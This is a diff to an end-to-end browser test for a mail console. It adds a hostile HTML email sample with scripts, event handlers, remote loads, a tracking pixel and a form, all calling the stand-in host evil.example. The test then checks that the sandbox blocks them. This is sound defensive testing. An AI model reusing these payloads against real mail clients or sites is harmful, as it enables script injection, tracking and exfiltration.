@@ -4,7 +4,30 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createSession } from '../sessions/helpers';
 import { launchChromium, seriousAxeViolations } from '../support/chromium';
 import { startServer, type TestServer } from '../support/server';
-import { ARTIFACTS, buildConsole, expectNoHorizontalScroll, screenshot, smtpTransport, watchForeignRequests } from './helpers';
+import { ARTIFACTS, buildConsole, expectNoHorizontalScroll, type RecordingProxy, screenshot, smtpTransport, startRecordingProxy } from './helpers';
+
+/** Everything a mail can try: scripts, handlers, remote loads of every kind, a form, a refresh. */
+const HOSTILE_HTML = `<html><head>
+<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
+<base href="http://evil.example/">
+<link rel="stylesheet" href="http://evil.example/style.css">
+<link rel="prefetch" href="http://evil.example/prefetch">
+<style>@import url(http://evil.example/import.css); h2 { background: url(http://evil.example/bg.png) }</style>
+<script>document.title = 'pwned'; parent.postMessage('pwned', '*'); fetch('http://evil.example/script'); alert('script')</script>
+<script src="http://evil.example/external.js"></script>
+<script src="https://evil.example/secure.js"></script>
+</head><body onload="fetch('http://evil.example/onload'); alert('onload')">
+<h1>Hostile</h1><h2>styled</h2>
+<img src="http://tracker.example/pixel.gif" alt="tracking pixel">
+<img src="broken" onerror="fetch('http://evil.example/onerror'); parent.postMessage('onerror', '*')" alt="broken">
+<img src="//evil.example/protocol-relative.png" alt="">
+<form action="http://evil.example/form" method="post"><input name="q" value="secret"><button id="submit">Send</button></form>
+<iframe src="http://evil.example/frame"></iframe>
+<object data="http://evil.example/object"></object>
+<video src="http://evil.example/video.mp4" autoplay></video>
+<svg><image href="http://evil.example/svg.png"/></svg>
+<a href="javascript:alert('link')">a link</a>
+</body></html>`;
 
 /**
  * The web console end to end: Debian's Chromium against a real server (real SQLite database, real SMTP),
@@ -13,30 +36,29 @@ import { ARTIFACTS, buildConsole, expectNoHorizontalScroll, screenshot, smtpTran
 describe('web console (/console) in Chromium', () => {
   let s: TestServer;
   let browser: Browser;
+  let proxy: RecordingProxy;
 
   beforeAll(async () => {
     buildConsole();
     mkdirSync(ARTIFACTS, { recursive: true });
     s = await startServer({ smtp: true });
-    browser = await launchChromium();
+    proxy = await startRecordingProxy();
+    browser = await launchChromium({ proxy: proxy.server });
   }, 180_000);
   afterAll(async () => {
     await browser?.close();
+    await proxy?.close();
     await s?.close();
   });
 
-  async function openPage(width = 1440, height = 900): Promise<{ page: Page; foreign: string[]; errors: string[] }> {
+  /** A page, the requests for other hosts made since it opened (see startRecordingProxy) and its errors. */
+  async function openPage(width = 1440, height = 900): Promise<{ page: Page; foreign: () => string[]; errors: string[] }> {
     const page = await browser.newPage({ viewport: { width, height } });
     page.setDefaultTimeout(15_000);
-    const foreign = watchForeignRequests(page);
+    const since = proxy.hits.length;
     const errors: string[] = [];
     page.on('pageerror', (e) => errors.push(String(e)));
-    // Nothing may leave the machine (asserted on through `foreign`).
-    await page.route(
-      (url) => url.hostname !== '127.0.0.1',
-      (route) => route.abort('blockedbyclient'),
-    );
-    return { page, foreign, errors };
+    return { page, foreign: () => proxy.hits.slice(since), errors };
   }
 
   async function signIn(page: Page, key: string): Promise<void> {
@@ -52,6 +74,12 @@ describe('web console (/console) in Chromium', () => {
     const deep = await fetch(`${s.url}/console/sessions/sess_whatever`, { headers: { accept: 'text/html' } });
     expect(deep.status).toBe(200);
     expect(deep.headers.get('content-type')).toMatch(/^text\/html/);
+    // The page may show remote images (only in a mail's frame, whose own CSP blocks them until asked);
+    // everything else stays as strict as the rest of the server.
+    const csp = deep.headers.get('content-security-policy') ?? '';
+    expect(csp).toContain("img-src 'self' data: https: http:");
+    expect(csp).toContain("script-src 'self'");
+    expect(csp).toContain("default-src 'self'");
     const html = await deep.text();
     expect(html).toContain('<title>sessions-gateway console</title>');
     expect(html).not.toMatch(/(?:src|href)\s*=\s*["']?(?:https?:)?\/\//i); // nothing from another host
@@ -219,7 +247,63 @@ describe('web console (/console) in Chromium', () => {
     expect(await page.evaluate('sessionStorage.length')).toBe(0);
 
     expect(errors).toEqual([]);
-    expect(foreign).toEqual([]);
+    expect(foreign()).toEqual([]);
+    await page.close();
+  });
+
+  it('shows a hostile HTML mail without running or loading anything until images are asked for', async () => {
+    const session = await createSession(s, { name: 'hostile-mail' });
+    const inbox = (await s.request('POST', '/api/v1/inboxes', { body: { sessionId: session.id } })).body;
+    await smtpTransport(s.smtpPort!).sendMail({
+      from: 'attacker@evil.example',
+      to: inbox.emailAddress,
+      subject: 'Totally harmless',
+      text: 'Nothing to see here',
+      html: HOSTILE_HTML,
+    });
+    const message = (await s.request('GET', `/api/v1/inboxes/${inbox.id}/messages`)).body.data[0];
+
+    const { page, foreign, errors } = await openPage();
+    const requests: string[] = [];
+    page.on('request', (r) => requests.push(r.url()));
+    const dialogs: string[] = [];
+    page.on('dialog', (d) => {
+      dialogs.push(d.message());
+      void d.dismiss();
+    });
+    await page.goto(`${s.url}/console/messages/${message.id}?session=${session.id}`);
+    await signIn(page, s.apiKey);
+    await page.getByRole('heading', { name: 'Totally harmless' }).waitFor();
+    await page.evaluate(`addEventListener('message', (e) => { window.gotMessage = String(e.data); })`);
+    const frame = page.frameLocator('iframe[title="HTML body of the message"]');
+    await expect(frame.locator('h1').innerText()).resolves.toBe('Hostile');
+    await page.getByText(/^2 remote images are blocked/).waitFor();
+
+    // The frame's form cannot be sent (no allow-forms), whatever is clicked.
+    await frame.locator('#submit').click();
+    await page.waitForTimeout(1000); // anything the mail tried has had its chance
+    expect(foreign()).toEqual([]);
+    // Nor did anything reach this origin but the console's own GraphQL calls and files.
+    const local = requests.filter((u) => u.startsWith(s.url));
+    expect(local.filter((u) => !u.endsWith('/graphql') && !new URL(u).pathname.startsWith('/console/'))).toEqual([]);
+    expect(local.filter((u) => u.endsWith('/broken'))).toEqual([]);
+    expect(dialogs).toEqual([]);
+    expect(await page.evaluate('window.gotMessage ?? null')).toBeNull();
+    await expect(page.title()).resolves.toBe('sessions-gateway console');
+    const mailFrame = page.frames().find((f) => f !== page.mainFrame());
+    expect(mailFrame?.url()).toBe('about:srcdoc'); // no refresh, no navigation
+    expect(errors).toEqual([]);
+    await screenshot(page, '10-hostile-mail');
+    await expectAccessible(page, 'hostile mail');
+
+    // The reader asks for images: now (and only now) the images are fetched, still nothing else.
+    await page.getByRole('button', { name: 'Load remote images' }).click();
+    await page.getByText('Remote images are shown').waitFor();
+    await expect.poll(() => foreign()).toContain('http://tracker.example/pixel.gif');
+    await page.waitForTimeout(1000);
+    for (const url of foreign()) expect(url, 'only images load').toMatch(/^http:\/\/(?:tracker|evil)\.example\/[\w-]+\.(?:gif|png)$/);
+    expect(dialogs).toEqual([]);
+    expect(await page.evaluate('window.gotMessage ?? null')).toBeNull();
     await page.close();
   });
 
